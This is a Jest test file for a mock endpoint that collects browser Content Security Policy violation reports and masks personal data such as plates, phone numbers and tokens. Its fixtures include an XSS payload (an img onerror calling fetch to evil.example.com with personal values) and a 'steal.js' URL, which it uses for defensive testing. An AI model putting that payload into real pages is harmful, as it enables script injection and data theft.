import { Readable } from 'node:stream';
import type { IncomingMessage, ServerResponse } from 'node:http';
import * as v from 'valibot';
import { allCalls } from '@/api/calls';
import { CspReportUriBody, ReportingApiBatch, SECURITY_REPORTS_PATH, SecurityReportBody } from '@/api/basic/securityReports.types';
import { createMockBackend } from '@mocks/backend';
import { blockedKind, directiveWord, documentRoute, sampleOf, sourcePlace, type ViolationSummary } from '@mocks/db/securityReports';
import { createMockMiddleware } from '@mocks/node/middleware';
import { backend } from '../support/mockServer';

/**
 * The security policy's reports (docs/rules/field-reports.md, "Security policy violations"): both shapes browsers
 * send are the contract's, garbage is refused whole, and the mock keeps only what the rule allows, nothing personal.
 */

const ORIGIN = 'https://app.example.cn';
/** A page address full of what a driver's page may hold: a plate in the path, a phone and a token in the query. */
const DOCUMENT = `${ORIGIN}/plates/%E4%BA%ACA12345?plate=%E4%BA%ACA12345&phone=13800138000&token=eyJhbGciOiJIUzI1NiJ9.c2VjcmV0#13800138000`;
const INJECTED = `<img src=x onerror="fetch('https://evil.example.com/?p=京A12345&t=13800138000')">`;
/** None of it may be kept, in any form. */
const PERSONAL = ['京A12345', 'A12345', '%E4%BA%AC', '13800138000', 'eyJhbGciOiJIUzI1NiJ9', 'c2VjcmV0', 'onerror', 'img src', 'phone=', 'token=', '?', '#'];

const POLICY = "default-src 'self'; script-src 'self'; require-trusted-types-for 'script'; trusted-types app dompurify; report-uri /api/basic/v2/api/securityReports; report-to csp";

/** What WebKit and Firefox send to report-uri: an injected script from another origin, its query full of values. */
const reportUri = {
  'csp-report': {
    'document-uri': DOCUMENT,
    referrer: `${ORIGIN}/home?phone=13800138000`,
    'violated-directive': 'script-src-elem',
    'effective-directive': 'script-src-elem',
    'original-policy': POLICY,
    disposition: 'enforce',
    'blocked-uri': 'https://evil.example.com/steal.js?plate=%E4%BA%ACA12345&phone=13800138000',
    'line-number': 1,
    'column-number': 1,
    'source-file': DOCUMENT,
    'status-code': 200,
    'script-sample': '',
  },
};

/** What Chromium sends to report-to: a Trusted Types sink given a string, an inline script, and a report of another type. */
const reportsJson = [
  {
    type: 'csp-violation', age: 12, url: DOCUMENT, user_agent: 'Mozilla/5.0 (Linux; Android 14) MicroMessenger/8.0',
    body: {
      documentURL: DOCUMENT, referrer: null, blockedURL: 'trusted-types-sink', effectiveDirective: 'require-trusted-types-for', originalPolicy: POLICY,
      sourceFile: `${ORIGIN}/static/js/main.1a2b3c4d.js?token=eyJhbGciOiJIUzI1NiJ9.c2VjcmV0`, sample: `Element innerHTML|${INJECTED}`,
      disposition: 'enforce', statusCode: 200, lineNumber: 2, columnNumber: 3456,
    },
  },
  {
    type: 'csp-violation', age: 13, url: DOCUMENT, user_agent: 'Mozilla/5.0',
    body: {
      documentURL: DOCUMENT, referrer: '', blockedURL: 'inline', effectiveDirective: 'script-src-elem', originalPolicy: POLICY,
      sourceFile: DOCUMENT, sample: INJECTED, disposition: 'report', statusCode: 200, lineNumber: 40, columnNumber: 7,
    },
  },
  { type: 'deprecation', age: 1, url: DOCUMENT, user_agent: 'Mozilla/5.0', body: { id: 'x', message: `${INJECTED} 京A12345` } },
];

async function post(body: unknown, contentType: string, init: RequestInit = {}) {
  const res = await fetch(`/api${SECURITY_REPORTS_PATH}`, { method: 'POST', headers: { 'Content-Type': contentType }, body: typeof body === 'string' ? body : JSON.stringify(body), ...init });
  return { status: res.status, ...((await res.json()) as { code: string; msg: string; data: unknown }) };
}

async function summary(query = ''): Promise<ViolationSummary & { raw?: unknown[] }> {
  return ((await (await fetch(`/__mock/securityReports${query}`)).json()) as { data: ViolationSummary & { raw?: unknown[] } }).data;
}

beforeEach(() => {
  // Kept across the mock's reset, as a monitoring backend's are: each test starts from none.
  backend.db.securityReports = [];
});

test('the contract takes both shapes browsers send, names both media types, and answers data: null', () => {
  const call = allCalls[`POST ${SECURITY_REPORTS_PATH}`]!;
  expect(call.body).toBe(SecurityReportBody);
  expect(Object.keys(call.bodyTypes ?? {})).toEqual(['application/csp-report', 'application/reports+json']);
  expect(call.textBody).toMatch(/text\/plain;charset=UTF-8/);
  expect(v.safeParse(call.answer, null).success).toBe(true);
  expect(call.errors).toBeUndefined();
  expect(v.safeParse(SecurityReportBody, reportUri).success).toBe(true);
  expect(v.safeParse(SecurityReportBody, reportsJson).success).toBe(true);
  // Fields may be missing: Firefox sends its defaults only, an old WebKit no effective-directive.
  expect(v.safeParse(CspReportUriBody, { 'csp-report': {} }).success).toBe(true);
  expect(v.safeParse(CspReportUriBody, { 'csp-report': { 'document-uri': DOCUMENT, 'violated-directive': "script-src 'self'" } }).success).toBe(true);
  expect(v.safeParse(ReportingApiBatch, [{ type: 'csp-violation', body: {} }]).success).toBe(true);
});

test.each([
  ['text', 'garbage'],
  ['null', null],
  ['an empty object', {}],
  ['an empty array', []],
  ['a number where a line is', { 'csp-report': { 'line-number': 'one' } }],
  ['a disposition no browser sends', { 'csp-report': { disposition: 'maybe' } }],
  ['a csp-violation without its body', [{ type: 'csp-violation', age: 1 }]],
  ['a csp-violation with a mistyped body', [{ type: 'csp-violation', body: { lineNumber: '2' } }]],
  ['a report without a type', [{ body: {} }]],
  ['a sample of 5,000 characters', { 'csp-report': { 'script-sample': 'x'.repeat(5000) } }],
  ['101 reports at once', Array.from({ length: 101 }, () => ({ type: 'deprecation' }))],
])('garbage is refused whole by the schema and by the mock, nothing kept: %s', async (_what, body) => {
  expect(v.safeParse(SecurityReportBody, body).success).toBe(false);
  const answer = await post(body, 'application/csp-report');
  expect(answer).toMatchObject({ code: '400', data: null });
  expect(backend.db.securityReports).toEqual([]);
});

test('a body that is not JSON is refused cleanly', async () => {
  expect(await post('{"csp-report": ', 'application/csp-report')).toMatchObject({ code: '400', data: null });
  expect(await post('', 'application/reports+json')).toMatchObject({ code: '400', data: null });
});

test('the masking: a route template, a directive word, a kind or an origin, a file without its query, a code word', () => {
  expect(documentRoute(DOCUMENT)).toBe('/plates/:id');
  expect(documentRoute(`${ORIGIN}/payPage?orderNo=U20001`)).toBe('/payPage');
  expect(documentRoute(`${ORIGIN}/13800138000/x`)).toBe('/:id/x');
  expect(documentRoute('not a url')).toBe('other');
  expect(documentRoute(undefined)).toBe('other');

  expect(directiveWord('script-src-elem')).toBe('script-src-elem');
  expect(directiveWord(undefined, "script-src 'self' 'nonce-abc'")).toBe('script-src');
  expect(directiveWord('<b>京A12345</b>')).toBe('other');

  expect(['inline', 'eval', 'wasm-eval', 'trusted-types-sink', 'trusted-types-policy', 'data', 'blob', ''].map((b) => blockedKind(b))).toEqual(
    ['inline', 'eval', 'eval', 'trusted-types-sink', 'trusted-types-policy', 'data', 'blob', 'unknown'],
  );
  expect(blockedKind('data:text/html;base64,PHNjcmlwdD4=')).toBe('data');
  expect(blockedKind('blob:https://app.example.cn/4f1c-13800138000')).toBe('blob');
  expect(blockedKind('https://evil.example.com:8443/a/13800138000.js?plate=京A12345#x')).toBe('https://evil.example.com:8443');
  expect(blockedKind('wss://push.example.com/socket?token=abc')).toBe('wss://push.example.com');
  expect(blockedKind('self', DOCUMENT)).toBe(ORIGIN);
  expect(blockedKind(null)).toBe('unknown');

  expect(sourcePlace(`${ORIGIN}/static/js/main.1a2b3c4d.js?token=abc#x`, 2, 3456)).toBe(`${ORIGIN}/static/js/main.1a2b3c4d.js:2:3456`);
  expect(sourcePlace(DOCUMENT, 40, 7)).toBe(`${ORIGIN}/plates/:id:40:7`);
  expect(sourcePlace(`${ORIGIN}/u/13800138000.js`, 0, 0)).toBe(`${ORIGIN}/u/:id`);
  expect(sourcePlace('chrome-extension://abcdefghijklmnop/content.js', 1, null)).toBe('chrome-extension://abcdefghijklmnop/content.js:1');
  expect(sourcePlace(undefined, 1, 1)).toBeUndefined();

  expect(sampleOf(null)).toEqual({ sample: false });
  expect(sampleOf('')).toEqual({ sample: false });
  expect(sampleOf(INJECTED)).toEqual({ sample: true });
  expect(sampleOf(`Element innerHTML|${INJECTED}`, true)).toEqual({ sample: true, sampleWord: 'Element innerHTML' });
  expect(sampleOf('HTMLScriptElement src|https://evil.example.com/?p=13800138000', true)).toEqual({ sample: true, sampleWord: 'HTMLScriptElement src' });
  // An inline script's first characters are the page's, '|' or not: nothing of them is kept.
  expect(sampleOf('zhang san|x', false)).toEqual({ sample: true });
  expect(sampleOf('a||b', false)).toEqual({ sample: true });
  expect(sampleOf('TrustedHTML <b>京A12345</b>')).toEqual({ sample: true, sampleWord: 'TrustedHTML' });
  expect(sampleOf('TrustedScriptURL')).toEqual({ sample: true, sampleWord: 'TrustedScriptURL' });
  expect(sampleOf('京A12345|<b>', true)).toEqual({ sample: true });
  expect(sampleOf('alert(13800138000)|x', true)).toEqual({ sample: true });
});

test('reports full of a plate, a phone, a token and injected text keep none of it, in either shape', async () => {
  expect(await post(reportUri, 'application/csp-report')).toEqual({ status: 200, code: '200', msg: 'success', data: null });
  expect(await post(reportsJson, 'application/reports+json')).toEqual({ status: 200, code: '200', msg: 'success', data: null });

  const kept = JSON.stringify(backend.db.securityReports);
  const read = JSON.stringify(await summary('?raw=1'));
  for (const value of PERSONAL) {
    expect(kept).not.toContain(value);
    expect(read).not.toContain(value);
  }
  expect(backend.db.securityReports.map(({ firstAt: _f, lastAt: _l, seqs: _s, ...row }) => row)).toEqual([
    { route: '/plates/:id', directive: 'script-src-elem', blocked: 'https://evil.example.com', source: `${ORIGIN}/plates/:id:1:1`, disposition: 'enforce', sample: false, count: 1 },
    {
      route: '/plates/:id', directive: 'require-trusted-types-for', blocked: 'trusted-types-sink', source: `${ORIGIN}/static/js/main.1a2b3c4d.js:2:3456`,
      disposition: 'enforce', sample: true, sampleWord: 'Element innerHTML', count: 1,
    },
    { route: '/plates/:id', directive: 'script-src-elem', blocked: 'inline', source: `${ORIGIN}/plates/:id:40:7`, disposition: 'report', sample: true, count: 1 },
  ]);
});

test('the summary counts by directive × blocked kind × route, newest first, with the total; a mark reads only what came after it', async () => {
  expect(await summary()).toEqual({ total: 0, lastSeq: expect.any(Number), violations: [] });
  await post(reportUri, 'application/csp-report');
  await post(reportUri, 'application/csp-report');
  await post(reportsJson, 'application/reports+json');
  const all = await summary();
  expect(all.total).toBe(4);
  expect(all.violations.map(({ directive, blocked, route, count }) => [directive, blocked, route, count])).toEqual([
    ['script-src-elem', 'inline', '/plates/:id', 1],
    ['require-trusted-types-for', 'trusted-types-sink', '/plates/:id', 1],
    ['script-src-elem', 'https://evil.example.com', '/plates/:id', 2],
  ]);
  expect(all.violations[1]).toMatchObject({ dispositions: ['enforce'], sampleWords: ['Element innerHTML'], sources: [`${ORIGIN}/static/js/main.1a2b3c4d.js:2:3456`] });

  // An end-to-end test's two questions: nothing since my mark; and this injected script since it.
  const mark = all.lastSeq;
  expect((await summary(`?after=${mark}`)).total).toBe(0);
  await post({ 'csp-report': { ...reportUri['csp-report'], 'document-uri': `${ORIGIN}/payPage?orderNo=U20001` } }, 'application/csp-report');
  await post(reportUri, 'application/csp-report');
  const since = await summary(`?after=${mark}`);
  expect(since.total).toBe(2);
  expect(since.violations.map(({ blocked, route, count }) => [blocked, route, count])).toEqual([
    ['https://evil.example.com', '/plates/:id', 1],
    ['https://evil.example.com', '/payPage', 1],
  ]);
  expect((await summary()).total).toBe(6);
  expect((await (await fetch('/__mock/securityReports?after=x')).json()) as { code: string }).toMatchObject({ code: '400' });
});

test("they outlive the mock's reset (the monitoring backend's, not a journey's); DELETE forgets them and marks stay valid", async () => {
  const own = createMockBackend();
  const send = (body: unknown) => own.handle(new Request(`http://localhost/api${SECURITY_REPORTS_PATH}`, { method: 'POST', headers: { 'Content-Type': 'application/csp-report' }, body: JSON.stringify(body) }));
  await send(reportUri);
  own.reset();
  expect(own.db.securityReports).toHaveLength(1);
  const read = async (q = '') => ((await (await own.handle(new Request(`http://localhost/__mock/securityReports${q}`)))!.json()) as { data: ViolationSummary }).data;
  const { lastSeq } = await read();
  await own.handle(new Request('http://localhost/__mock/securityReports', { method: 'DELETE' }));
  expect(await read()).toEqual({ total: 0, lastSeq, violations: [] });
  await send(reportUri);
  expect((await read(`?after=${lastSeq}`)).total).toBe(1);
});

test('a beacon with no cookies and no token, as text/plain, is taken (a browser sends reports with none of the app\'s headers)', async () => {
  expect(await post(reportUri, 'text/plain;charset=UTF-8', { credentials: 'omit' })).toMatchObject({ code: '200', data: null });
  expect(backend.db.securityReports).toHaveLength(1);
});

/** A request as Node's HTTP server hands it to the middleware (the dev and preview servers). */
function nodeRequest(body: string, contentType: string): IncomingMessage {
  const req = Readable.from([Buffer.from(body)]) as unknown as IncomingMessage;
  Object.assign(req, { method: 'POST', url: `/api${SECURITY_REPORTS_PATH}`, headers: { host: 'localhost:4173', 'content-type': contentType, 'content-length': String(Buffer.byteLength(body)) } });
  return req;
}

function nodeResponse(): { res: ServerResponse; done: Promise<{ status: number; body: string }> } {
  let resolve: (x: { status: number; body: string }) => void = () => undefined;
  const done = new Promise<{ status: number; body: string }>((r) => { resolve = r; });
  const res = { statusCode: 0, setHeader: () => undefined, end(b: Buffer) { resolve({ status: this.statusCode, body: b.toString('utf8') }); } };
  return { res: res as unknown as ServerResponse, done };
}

test.each([
  ['application/csp-report', reportUri],
  ['application/reports+json', reportsJson],
])('the dev and preview servers\' middleware takes %s', async (contentType, body) => {
  const own = createMockBackend();
  const middleware = createMockMiddleware(own);
  const { res, done } = nodeResponse();
  const next = jest.fn();
  await middleware(nodeRequest(JSON.stringify(body), contentType), res, next);
  expect(next).not.toHaveBeenCalled();
  const answer = await done;
  expect(answer.status).toBe(200);
  expect(JSON.parse(answer.body)).toEqual({ code: '200', msg: 'success', data: null });
  expect(own.db.securityReports.length).toBeGreaterThan(0);
});
